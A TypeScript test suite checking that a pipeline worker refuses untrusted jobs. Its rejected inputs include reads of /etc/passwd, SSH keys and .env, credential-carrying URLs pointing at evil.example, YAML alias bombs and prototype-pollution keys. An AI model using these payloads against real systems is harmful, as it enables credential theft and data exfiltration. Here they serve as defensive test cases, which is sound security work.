import { chmodSync, mkdirSync, symlinkSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, test } from 'vitest';
import type { RunError } from '../../../src/errors/run-error.ts';
import { type FleetJob, jobSchema } from '../../../src/features/fleet/queue/fleet-job.ts';
import { allow } from '../../../src/features/fleet/worker/allowed.ts';
import { readWorkerConfig } from '../../../src/features/fleet/worker/worker-config.ts';
import { jobOf, SANDBOX, USERS } from './job-of.ts';
import { ownFolder, variable } from './own-folder.ts';

const ENV = {
  STATE_URL: 'postgres://me:word@127.0.0.1/db',
  QUERY_URL: 'postgres://127.0.0.1/db?user=me&Password=word',
  HOOK: 'https://hooks.example/1',
  PATH: '/bin',
};

/** What a worker says to a job: the code of its refusal, or `ok`. */
async function answer(own: ReturnType<typeof ownFolder>, job: FleetJob, config = ''): Promise<string> {
  const rules = {
    config: await readWorkerConfig(
      own.write('worker.yaml', `version: 1\nenv: [STATE_URL, QUERY_URL, HOOK]\n${config}`),
    ),
    env: ENV,
    allowCode: false,
  };
  return await allow(job, rules).then(
    () => 'ok',
    (error: RunError) => error.code,
  );
}

describe('a job that nobody has submitted', () => {
  test('reads and writes nothing but what is below the folders of the worker', async () => {
    using own = ownFolder();
    const file = own.pipeline();
    const sources = (users: string): string => `${SANDBOX}sources: { users: ${users} }\n`;
    for (const text of [
      sources('{ path: /etc/passwd }'),
      sources('{ path: ../secret.csv }'),
      sources('[{ path: users.csv }, { path: /root/.ssh/id_ed25519 }]'),
      sources('{ path: [users.csv, "/proc/self/environ"] }'),
      sources('{ path: "../*/key" }'),
      sources('{ path: "{..,x}/*/key" }'),
      sources('{ path: "{/etc,x}/passwd" }'),
      sources('{ path: "/etc/*" }'),
      sources('{ path: "../all.zip!/key" }'),
      sources('{ path: .env }'),
      sources('{ path: "{.env,users.csv}" }'),
      sources('{ path: "*/.ssh/*" }'),
      sources('{ path: ./key }'),
      sources('{ path: "-" }'),
      sources('{ path: users.csv, join: { more: { path: /etc/passwd, on: { a: uid } } } }'),
      sources(
        '{ path: users.csv, map: { name: { from: name, lookup: { file: /etc/passwd, key: a, value: b } } } }',
      ),
      `${SANDBOX}sources: { export: { system: auto, path: /home } }\n`,
      `${SANDBOX}${USERS}idMap: /etc/passwd\n`,
      `${SANDBOX}${USERS}state: /tmp\n`,
      `${SANDBOX}${USERS}state: ../other/.chatferry\n`,
      `${SANDBOX}${USERS}state: .config\n`,
      `target: { baseUrl: "https://127.0.0.1:9/v3", caFile: /dev/stdin }\n${USERS}`,
    ])
      expect([
        text,
        await answer(own, jobOf(file, text), 'folders: [.]\nkeys: [{ file: ./key, host: 127.0.0.1 }]'),
      ]).toEqual([text, 'FLEET.PATH_REFUSED']);
    for (const text of [`${SANDBOX}${USERS}state: states\n`, sources('{ path: "{users,more}*.csv" }')]) {
      expect(await answer(own, jobOf(file, text), 'folders: [.]')).toBe('ok');
      // A file of its name in its folder makes that no home.
      expect(await answer(own, jobOf(file, text))).toBe('FLEET.PATH_REFUSED');
    }
  });

  test('has no folder but one that the worker names', async () => {
    using own = ownFolder();
    const text = `${SANDBOX}${USERS}`;
    mkdirSync(join(own.folder, 'empty'));
    for (const file of ['/', '/app.yaml', '/etc/app.yaml', '/etc/passwd', join(own.folder, 'empty/app.yaml')])
      expect([file, await answer(own, jobOf(file, text))]).toEqual([file, 'FLEET.PATH_REFUSED']);
    const other = jobOf(own.pipeline(), text.replace('', ''), { name: 'other' });
    expect(await answer(own, other)).toBe('FLEET.JOB_INVALID');
    const empty = jobOf(join(own.folder, 'empty/app.yaml'), text);
    expect(await answer(own, empty, 'folders: [.]')).toBe('ok');
    expect(await answer(own, empty, 'folders: [./other]')).toBe('FLEET.PATH_REFUSED');
    symlinkSync('/etc', join(own.folder, 'linked'));
    const linked = jobOf(own.pipeline(), `${SANDBOX}sources: { users: { path: linked/passwd } }\n`);
    expect(await answer(own, linked, 'folders: [.]')).toBe('FLEET.PATH_REFUSED');
  });

  test('whose text is in its file in a folder for pipelines is trusted as on the command line, unless others can change that', async () => {
    using own = ownFolder();
    const text = `${SANDBOX}sources: { users: { path: /etc/passwd } }\nnotify: [{ webhook: "https://a.example/" }]\n`;
    mkdirSync(join(own.folder, 'apps/one'), { recursive: true });
    const job = jobOf(own.write('apps/one/app.yaml', jobOf('', text).text), text);
    const trusting = 'pipelines: [apps]';
    expect(await answer(own, job, trusting)).toBe('ok');
    for (const other of ['', 'pipelines: [./other]', 'folders: [apps]', 'pipelines: [apps/one/app.yaml/x]'])
      expect([other, await answer(own, job, other)]).toEqual([other, 'FLEET.PATH_REFUSED']);
    expect(await answer(own, jobOf(job.file, `${text}\n`), trusting)).toBe('FLEET.PATH_REFUSED');
    for (const [path, open, closed] of [
      ['apps/one', 0o777, 0o700],
      ['apps', 0o770, 0o755],
      ['.', 0o777, 0o700],
      ['apps/one/app.yaml', 0o666, 0o600],
    ] as const) {
      chmodSync(join(own.folder, path), open);
      // The file of the worker itself is in the last folder.
      const code = path === '.' ? 'CONFIG.CODE_NOT_OWN' : 'FLEET.PATH_REFUSED';
      expect([path, await answer(own, job, trusting).catch((error: RunError) => error.code)]).toEqual([
        path,
        code,
      ]);
      chmodSync(join(own.folder, path), closed);
      expect([path, await answer(own, job, trusting)]).toEqual([path, 'ok']);
    }
  });

  test('is not trusted where chatferry itself writes texts of sources, nor by a link into a trusted folder', async () => {
    using own = ownFolder();
    const text = `${SANDBOX}sources: { users: { path: /etc/passwd } }\n`;
    const asked = async (path: string) => {
      mkdirSync(dirname(join(own.folder, path)), { recursive: true });
      return await answer(own, jobOf(own.write(path, jobOf('', text).text), text), 'pipelines: [apps]');
    };
    expect(await asked('apps/app.yaml')).toBe('ok');
    for (const path of [
      'apps/.chatferry/app/rejects/users.csv',
      'apps/.chatferry/app/prepared/remote/0a/evil.yaml',
      'apps/.hidden/app.yaml',
      'apps/states/app/rejects/users.csv',
      'apps/states/app/prepared/remote/0a/evil.yaml',
    ])
      expect([path, await asked(path)]).toEqual([path, 'FLEET.PATH_REFUSED']);
    expect(await asked('apps/states/other/app.yaml')).toBe('ok');
    own.write('apps/states/other/checkpoint.json', '{}');
    expect(await asked('apps/states/other/app.yaml')).toBe('FLEET.PATH_REFUSED');
    symlinkSync(join(own.folder, 'apps/app.yaml'), join(own.folder, 'linked.yaml'));
    const linked = jobOf(join(own.folder, 'linked.yaml'), text);
    expect(await answer(own, linked, 'pipelines: [apps]')).toBe('FLEET.PATH_REFUSED');
  });

  test('sends nothing and keeps nothing where the worker does not say so', async () => {
    using own = ownFolder();
    const file = own.pipeline();
    const asked = (more: string, config = '') =>
      answer(own, jobOf(file, `${SANDBOX}${USERS}${more}\n`), `folders: [.]\n${config}`);
    for (const more of [
      'notify: [{ webhook: "https://evil.example/" }]',
      'notify: [{ ping: { success: { env: HOOK }, failure: "https://evil.example/" } }]',
      'notify: [{ webhook: { file: address } }]',
      `notify: [{ webhook: "${variable('HOOK')}" }]`,
      'state: postgres://me@evil.example/db',
      'state: postgres://me@db.example:5433/db',
      'state: postgres://me@db.example/db?host=evil.example',
      'state: postgres://me@db.example/db?sslkey=/root/key',
    ])
      expect([more, await asked(more, 'hosts: [db.example]')]).toEqual([more, 'FLEET.HOST_REFUSED']);
    for (const more of [
      `state: "postgres://evil.example/db?a=${variable('STATE_URL')}"`,
      `state: "${variable('STATE_URL')}?a=1"`,
      `notify: [{ webhook: { env: HOOK }, headers: { a: "${variable('QUERY_URL')}" } }]`,
      `notify: [{ webhook: { env: HOOK }, headers: { a: "${variable('STATE_URL')}" } }]`,
    ])
      expect([more, await asked(more)]).toEqual([more, 'FLEET.KEY_REFUSED']);
    for (const more of [
      'notify: [{ webhook: { env: HOOK } }]',
      `notify: [{ webhook: "${variable('HOOK')}" }]`,
      'notify: [{ ping: { start: "https://hooks.example:443/a" } }]',
      'state: postgres://me@db.example:5432/db',
      `state: "${variable('STATE_URL')}"`,
    ])
      expect([more, await asked(more, 'hosts: [db.example, hooks.example]')]).toEqual([more, 'ok']);
  });

  test('fetches sources from nowhere but the hosts of the worker', async () => {
    using own = ownFolder();
    const file = own.pipeline();
    const asked = (path: string, hosts: string) =>
      answer(
        own,
        jobOf(file, `${SANDBOX}sources: { users: { path: "${path}" } }\n`),
        `folders: [.]\nhosts: [${hosts}]`,
      );
    const path = 'https://files.example.com/users.csv?key=s3cr3t';
    for (const hosts of ['', 'example.com', 'files.example.com:8443', '127.0.0.1'])
      expect(await asked(path, hosts), hosts).toBe('FLEET.HOST_REFUSED');
    for (const hosts of ['files.example.com', 'FILES.example.com', 'files.example.com:443'])
      expect(await asked(path, hosts), hosts).toBe('ok');
    expect(await asked('http://127.0.0.1:8080/users.csv', 'files.example.com')).toBe('FLEET.HOST_REFUSED');
    expect(await asked('http://127.0.0.1:8080/users.csv', '127.0.0.1')).toBe('ok');
  });

  test('takes no key by another port, nor by a target that is named in the path of its file', async () => {
    using own = ownFolder();
    const target = '{ baseUrl: "https://api.example:8443/v3", apiKey: { file: ./key } }';
    const file = own.write('app.yaml', jobOf('', `target: ${target}\n${USERS}`).text);
    const keys = (host: string) => `pipelines: [.]\nkeys: [{ file: ./key, host: "${host}" }]`;
    const job = jobOf(file, `target: ${target}\n${USERS}`);
    for (const host of ['api.example', 'api.example:443'])
      expect(await answer(own, job, keys(host))).toBe('FLEET.KEY_REFUSED');
    expect(await answer(own, job, keys('api.example:8443'))).toBe('ok');
    const usual = jobOf(file, `target: ${target.replace(':8443', '')}\n${USERS}`);
    for (const host of ['api.example', 'api.example:443'])
      expect([host, await answer(own, usual, `${keys(host)}\nfolders: [.]`)]).toEqual([host, 'ok']);
    const unused = jobOf(
      file,
      'target: { baseUrl: "https://api.example/v3", apiKey: { env: LIVE_KEY } }\n' +
        `targets: { other: { baseUrl: "https://evil.example/v3?k=${variable('LIVE_KEY')}" } }\n${USERS}`,
    );
    const live = 'folders: [.]\nkeys: [{ env: LIVE_KEY, host: api.example }]';
    expect(await answer(own, unused, live)).toBe('FLEET.KEY_REFUSED');
    const aside = jobOf(`${file} --to evil`, `${SANDBOX}targets: { evil: ${target} }\n${USERS}`);
    expect(jobSchema.safeParse(aside).success).toBe(false);
  });

  test.each([
    [
      'aliases that multiply',
      `a: &a [x,x,x,x,x,x,x,x,x]\n${[...'bcdefgh']
        .map(
          (name, at) =>
            `${name}: &${name} [${Array(9)
              .fill(`*${[...'abcdefg'][at]}`)
              .join()}]`,
        )
        .join('\n')}`,
    ],
    ['depth', `sources: ${'['.repeat(100_000)}`],
    ['depth in blocks', Array.from({ length: 900 }, (_, at) => `${' '.repeat(at)}a:`).join('\n')],
    ['the key __proto__', `__proto__: { target: sandbox }\n${USERS}`],
    ['constructor and prototype', `constructor: { prototype: { a: 1 } }\n${USERS}`],
    ['a tag', `target: !!js/function "function () { return 1 }"\n${USERS}`],
    ['a merge of no mapping', `<<: sandbox\n${USERS}`],
    ['no map', '- 1'],
  ])('with %s in its text is refused as a bad file, quickly', async (_, text) => {
    using own = ownFolder();
    const before = process.cpuUsage();
    expect(await answer(own, jobOf(own.pipeline(), text))).toMatch(/^CONFIG\./);
    expect(process.cpuUsage(before).user / 1_000).toBeLessThan(30_000);
    expect(Object.prototype).not.toHaveProperty('a');
  });

  test('is none of ours with another form', () => {
    const ours = jobOf('/srv/app.yaml', USERS);
    expect(jobSchema.safeParse(ours).success).toBe(true);
    for (const more of [
      { name: '../../etc' },
      { name: '\u001b[2J' },
      { to: '..' },
      { file: 'app.yaml' },
      { file: '/srv/\u001b[2Japp.yaml' },
      { file: `/${'a/'.repeat(5_000)}` },
      { text: 'x'.repeat(1_000_001) },
      { command: 'undo' },
      { options: { ...ours.options, allowCode: true } },
      { stage: { of: 'a', name: 'x'.repeat(65) } },
      JSON.parse('{ "__proto__": { "command": "undo" }, "constructor": 1 }'),
    ])
      expect(jobSchema.safeParse({ ...ours, ...more }).success, JSON.stringify(more).slice(0, 80)).toBe(
        false,
      );
  });
});
